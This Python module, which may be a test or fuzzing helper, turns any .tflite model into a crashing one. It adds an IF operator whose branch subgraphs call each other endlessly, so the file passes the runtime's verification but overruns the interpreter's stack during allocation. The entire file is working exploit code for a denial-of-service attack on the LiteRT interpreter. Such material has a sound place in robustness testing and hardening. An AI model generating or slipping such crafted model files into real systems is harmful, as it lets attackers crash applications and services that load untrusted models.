"""A real model file that brings the interpreter down: two subgraphs that call each other without end.

The flatbuffer is well-formed, so that the runtime's own verification finds nothing; preparing it overruns the stack.
"""

from __future__ import annotations

from typing import Any

import flatbuffers
import numpy as np
from ai_edge_litert import schema_py_generated as schema


def make_killer_model(model: bytes) -> bytes:
    """Add to a model an IF whose branches are IFs of each other.

    Parameters
    ----------
    model : bytes
        Any ``.tflite`` file.

    Returns
    -------
    bytes
        A ``.tflite`` file whose tensors cannot be allocated without a crash.
    """
    changed: Any = schema.ModelT.InitFromObj(schema.Model.GetRootAsModel(model, 0))
    always = schema.BufferT()
    always.data = np.array([1], np.uint8)
    changed.buffers.append(always)
    condition = len(changed.buffers) - 1
    code = schema.OperatorCodeT()
    code.builtinCode = code.deprecatedBuiltinCode = schema.BuiltinOperator.IF
    code.version = 1
    changed.operatorCodes.append(code)
    opcode = len(changed.operatorCodes) - 1

    main = changed.subgraphs[0]
    first = len(main.tensors)
    main.tensors += _tensors(condition)
    main.operators.append(_if(opcode, first, branch=1))
    for branch in (2, 1):
        subgraph = schema.SubGraphT()
        subgraph.name = b"endless"
        subgraph.tensors = _tensors(condition)
        subgraph.inputs, subgraph.outputs = np.array([1], np.int32), np.array([2], np.int32)
        subgraph.operators = [_if(opcode, 0, branch)]
        changed.subgraphs.append(subgraph)
    builder = flatbuffers.Builder(len(model))
    builder.Finish(changed.Pack(builder), b"TFL3")
    return bytes(builder.Output())


def _tensors(condition: int) -> list[Any]:
    """The condition, what goes in, and what comes out."""
    tensors = []
    for name, kind, shape, buffer in (
        (b"condition", schema.TensorType.BOOL, [1], condition),
        (b"in", schema.TensorType.INT8, [1, 4], 0),
        (b"out", schema.TensorType.INT8, [1, 4], 0),
    ):
        tensor = schema.TensorT()
        tensor.name, tensor.type, tensor.shape, tensor.buffer = name, kind, shape, buffer
        tensors.append(tensor)
    return tensors


def _if(opcode: int, first_tensor: int, branch: int) -> Any:
    options = schema.IfOptionsT()
    options.thenSubgraphIndex = options.elseSubgraphIndex = branch
    operator = schema.OperatorT()
    operator.opcodeIndex = opcode
    operator.inputs = np.array([first_tensor, first_tensor + 1], np.int32)
    operator.outputs = np.array([first_tensor + 2], np.int32)
    operator.builtinOptionsType, operator.builtinOptions = schema.BuiltinOptions.IfOptions, options
    return operator
